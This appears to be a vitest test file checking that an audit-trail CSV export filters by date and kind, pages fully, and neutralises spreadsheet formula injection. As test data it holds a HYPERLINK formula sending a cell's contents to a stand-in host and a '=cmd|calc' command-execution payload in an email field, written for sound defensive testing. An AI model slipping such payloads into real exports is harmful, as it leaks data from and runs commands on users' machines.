import { parse } from 'csv-parse/sync';
import { beforeEach, expect, it } from 'vitest';
import type { Database } from '../db/database';
import { describeEachDatabase } from '../testing/test-databases';
import { formatInZone } from '../shared/time';
import { openAuditExport } from './audit-export';
import { parseAuditFilter } from './audit-filter';
import { appendAuditEvent, listAuditEvents, type Actor } from './audit-trail';

const LA = 'America/Los_Angeles';
const KEY = 'c'.repeat(32);
// 2026-11-29 in Los Angeles is 08:00 UTC that day to 08:00 UTC the next.
const DAY_START = Date.parse('2026-11-29T08:00:00.000Z');
const IN_RANGE = 1_100; // more than two pages of the trail (500 each)

// What people type, which a spreadsheet would run as formulas; and look-alikes it would not.
const RISKY_REASON = '=HYPERLINK("https://example.invalid/?leak="&A2,"Open")';
const RISKY_LABEL = '+44 20 7946 0958';
const RISKY_NAME = '@SUM(1+1)';
const ADMIN: Actor = { email: 'rita@example.com', name: 'Rita Admin', role: 'admin', clientAddress: '203.0.113.7' };

// The rule, written out independently of the code under test (OWASP: =, +, -, @, tab, carriage return).
const isRisky = (cell: string) => ['=', '+', '-', '@', '\t', '\r'].includes(cell.charAt(0));

describeEachDatabase('the audit trail as CSV', (open) => {
  let db: Database;
  beforeEach(async () => {
    db = await open();
    const operator: Actor = { email: 'olivia@example.com', name: RISKY_NAME, role: 'operator', clientAddress: '10.0.0.1' };
    // The day before and the day after, in Los Angeles: never in the file.
    for (const at of ['2026-11-29T07:59:59.999Z', '2026-11-30T08:00:00.000Z']) {
      await appendAuditEvent(db, operator, { kind: 'stop-request', bulkKey: KEY, summary: `outside, at ${at}`, details: { reason: RISKY_REASON } }, new Date(at));
    }
    for (let i = 0; i < IN_RANGE; i++) {
      const at = new Date(DAY_START + i * 60_000);
      if (i % 3 === 0) {
        await appendAuditEvent(db, operator, {
          kind: 'stop-request', bulkKey: KEY, summary: `Stop requested #${i}`, zuora: { trackId: `t-${i}`, requestId: `r-${i}` },
          details: { reason: i % 2 ? RISKY_REASON : '\t=1+1', label: RISKY_LABEL, zuoraAnswer: 'accepted', statusBefore: 'Processing', processedCount: 40, totalCount: 90 },
        }, at);
      } else if (i % 3 === 1) {
        await appendAuditEvent(db, operator, { kind: 'registration', bulkKey: KEY, summary: `-2.50 registered #${i}`, details: { label: "'already text", via: 'form', status: 'Processing', actionType: 'UpdateAccountingCode' } }, at);
      } else {
        await appendAuditEvent(db, { email: '\r=cmd|calc', role: null, clientAddress: '198.51.100.2' }, { kind: 'sign-in-failed', summary: `Sign-in refused #${i}`, details: { method: 'local account', reason: 'wrong email or password' } }, at);
      }
    }
  });

  async function exportOf(query: Record<string, string>, now = new Date('2026-11-30T01:00:00.000Z')) {
    const parsed = parseAuditFilter(query, LA);
    if (!parsed.ok) throw new Error(parsed.problem.message);
    const download = await openAuditExport(db, parsed, ADMIN, LA, now);
    return { download, read: async () => {
      const chunks: Buffer[] = [];
      for await (const chunk of download.stream) chunks.push(Buffer.from(chunk as Uint8Array));
      return Buffer.concat(chunks).toString('utf8');
    } };
  }

  it('holds every entry of the range, newest first, past the first page, in UTC and in the console zone', async () => {
    const { download, read } = await exportOf({ from: '2026-11-29', to: '2026-11-29' });
    expect(download.fileName).toBe('audit-trail_2026-11-29_to_2026-11-29.csv');
    const text = await read();
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parse(text, { bom: true }) as string[][];
    expect(header).toEqual([
      'Time (UTC, ISO 8601)', 'Time (America/Los_Angeles)', 'Who', 'Name', 'Role', 'From (client address)', 'Kind', 'What', 'Details',
      'Bulk key', 'Reason', 'Label', "Zuora's answer", 'Zuora-Request-Id', 'Zuora-Track-Id',
    ]);
    expect(rows).toHaveLength(IN_RANGE);
    const expectedTimes = Array.from({ length: IN_RANGE }, (_, i) => new Date(DAY_START + (IN_RANGE - 1 - i) * 60_000).toISOString());
    expect(rows.map((row) => row[0])).toEqual(expectedTimes);
    expect(rows.at(-1)?.[1]).toBe('2026-11-29 00:00:00 UTC−08:00');
    expect(rows.every((row, i) => row[1] === formatInZone(expectedTimes[i]!, LA))).toBe(true);
  });

  it('neutralises every cell a spreadsheet would run as a formula, and leaves the rest as written', async () => {
    const [, ...rows] = parse(await (await exportOf({ from: '2026-11-29', to: '2026-11-29' })).read(), { bom: true }) as string[][];
    expect(rows.flat().filter(isRisky)).toEqual([]);
    const stop = rows.find((row) => row[7] === 'Stop requested #3')!;
    expect(stop).toEqual([
      new Date(DAY_START + 3 * 60_000).toISOString(), '2026-11-29 00:03:00 UTC−08:00', 'olivia@example.com', `'${RISKY_NAME}`, 'operator', '10.0.0.1',
      'Stop request', 'Stop requested #3', 'Before the stop: Processing, 40 of 90 rows processed', KEY, `'${RISKY_REASON}`, `'${RISKY_LABEL}`, 'accepted', 'r-3', 't-3',
    ]);
    expect(rows.find((row) => row[7] === 'Stop requested #0')?.[10]).toBe("'\t=1+1");
    const registration = rows.find((row) => row[7] === "'-2.50 registered #1")!;
    expect(registration.slice(6, 12)).toEqual(['Registration', "'-2.50 registered #1", 'How: pasted into the Register panel; Zuora said then: UpdateAccountingCode, Processing', KEY, '', "'already text"]);
    const refused = rows.find((row) => row[7] === 'Sign-in refused #2')!;
    expect(refused.slice(2, 9)).toEqual(["'\r=cmd|calc", '', '', '198.51.100.2', 'Sign-in refused', 'Sign-in refused #2', 'Method: local account']);
  });

  it('follows the other filters too, and an open-ended range', async () => {
    const [, ...stops] = parse(await (await exportOf({ kind: 'stop-request', from: '2026-11-29', to: '2026-11-29' })).read(), { bom: true }) as string[][];
    expect(stops).toHaveLength(Math.ceil(IN_RANGE / 3));
    expect(new Set(stops.map((row) => row[6]))).toEqual(new Set(['Stop request']));
    const [, ...after] = parse(await (await exportOf({ kind: 'stop-request', from: '2026-11-30' })).read(), { bom: true }) as string[][];
    expect(after.map((row) => row[7])).toEqual(['outside, at 2026-11-30T08:00:00.000Z']);
  });

  it('is recorded as a file download with its filter, and holds the trail as it stood when it began', async () => {
    // The export's own entry, and one written while the file streams, fall inside the range but not in the file.
    const { read } = await exportOf({ actor: 'olivia', from: '2026-11-29', to: '2026-11-29', before: '5' }, new Date('2026-11-29T23:59:00.000Z'));
    await appendAuditEvent(db, ADMIN, { kind: 'sign-in', summary: 'Signed in while the export ran' }, new Date('2026-11-29T23:59:30.000Z'));
    const [, ...rows] = parse(await read(), { bom: true }) as string[][];
    // `before` is the page on screen; the export is of every page.
    expect(rows).toHaveLength(Math.ceil((IN_RANGE * 2) / 3));
    expect(rows.some((row) => row[2] === ADMIN.email)).toBe(false);
    const recorded = (await listAuditEvents(db, { kind: 'file-download' })).events;
    expect(recorded).toHaveLength(1);
    expect(recorded[0]).toMatchObject({
      actorEmail: ADMIN.email, actorRole: 'admin', clientAddress: '203.0.113.7', bulkKey: null, summary: 'Downloaded the audit trail as CSV',
      details: { kind: 'audit-trail', fileName: 'audit-trail_2026-11-29_to_2026-11-29.csv', filter: { actor: 'olivia', from: '2026-11-29', to: '2026-11-29', timeZone: LA } },
    });
  });
});
